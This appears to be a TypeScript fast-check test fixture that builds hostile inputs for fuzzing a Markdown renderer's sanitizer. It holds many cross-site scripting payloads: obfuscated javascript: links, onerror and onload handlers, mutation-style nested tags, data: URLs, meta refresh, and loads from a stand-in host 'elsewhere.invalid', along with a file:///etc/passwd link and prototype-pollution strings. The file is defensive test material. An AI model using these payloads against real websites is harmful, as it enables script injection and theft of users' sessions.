/** Texts that would run something, fetch something or lead astray if Markdown were drawn carelessly. */
import fc from 'fast-check';

const RUNS = 'globalThis.hurt=1';
const ELSEWHERE = 'https://elsewhere.invalid';

const ADDRESSES = [
  `javascript:${RUNS}`,
  `JaVaScRiPt:${RUNS}`,
  `java\nscript:${RUNS}`,
  `java\tscript:${RUNS}`,
  `\u0001javascript:${RUNS}`,
  ` javascript:${RUNS}`,
  `&#106;avascript:${RUNS}`,
  `&#x6A&#x61vascript:${RUNS}`,
  `javascript&colon;${RUNS}`,
  `javascript%3A${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aHVydD4=`,
  `vbscript:${RUNS}`,
  `blob:${ELSEWHERE}/1`,
  'filesystem:x',
  'file:///etc/passwd',
  '//elsewhere.invalid',
  '/sw.js',
  '#/me',
  '',
  `https://bank.example@elsewhere.invalid/`,
  `${ELSEWHERE}/"onmouseover="${RUNS}`,
  `${ELSEWHERE}/'><img src=x onerror=${RUNS}>`,
];

const HTML = [
  `<script>${RUNS}</script>`,
  `<script src=${ELSEWHERE}/x.js></script>`,
  `<img src=x onerror=${RUNS}>`,
  `<img src=${ELSEWHERE}/x.png>`,
  `<svg onload=${RUNS}>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUNS}>`,
  `<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>`,
  `<iframe src=javascript:${RUNS}>`,
  `<object data=${ELSEWHERE}/x></object>`,
  `<embed src=${ELSEWHERE}/x>`,
  `<link rel=stylesheet href=${ELSEWHERE}/x.css>`,
  `<style>@import '${ELSEWHERE}/x.css'</style>`,
  `<base href=${ELSEWHERE}>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action=${ELSEWHERE}><button autofocus onfocus=${RUNS}>x</button></form>`,
  `<a href=javascript:${RUNS}>x</a>`,
  `<details open ontoggle=${RUNS}>`,
  `<b style="background:url(${ELSEWHERE})" onclick="${RUNS}">x</b>`,
  `<template><script>${RUNS}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
  `<!--><img src=x onerror=${RUNS}>-->`,
  `<![CDATA[<script>${RUNS}</script>]]>`,
  '<?php x ?>',
  '</div></main></body>',
  `<x onpointerrawupdate=${RUNS} style=position:fixed;inset:0>`,
];

const MARKS = [
  '*', '**', '_', '`', '```', '~~~', '# ', '> ', '- ', '1. ', '![', '[', ']', '](', ')', '][', ']: ', '<', '>',
  '"', "'", '\\', '&', '&lt;', '&#60;', '&#0;', '\n', '\n\n', '    ', '\t', '|', '---', ' ', 'x', '\u202e', '\u0000',
  '\ufeff', '${', '{{', '__proto__', 'constructor',
]; // prettier-ignore

const address = fc.constantFrom(...ADDRESSES);
const linked = fc.oneof(
  address.map((to) => `[x](${to})`),
  address.map((to) => `[x](<${to}> "${to}")`),
  address.map((to) => `![x](${to} '${to}')`),
  address.map((to) => `<${to}>`),
  address.map((to) => `[x][y]\n\n[y]: ${to}\n[__proto__]: ${to}\n`),
  address.map((to) => `![x][y]\n\n[y]: <${to}> (${to})\n`),
);

/** Every one of the list by itself, in the places where Markdown takes it. */
export const hostileTexts = (): readonly string[] => [
  ...HTML,
  ...HTML.map((html) => `- > ${html}\n\n\`\`\`${html}\n${html}`),
  ...HTML.map((html) => `[${html}](${html})![${html}](${html} "${html}")`),
  ...ADDRESSES.flatMap((to) => [`[x](${to})`, `![${to}](${to})`, `<${to}>`, `[x][y]\n\n[y]: ${to}`, to]),
];

/** Mixtures of all of it with Markdown's own signs and with anything. */
export const mixedText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...MARKS) },
      { weight: 2, arbitrary: fc.constantFrom(...HTML) },
      { weight: 2, arbitrary: linked },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 6 }) },
    ),
    { minLength: 1, maxLength: 24 },
  )
  .map((parts) => parts.join(''));
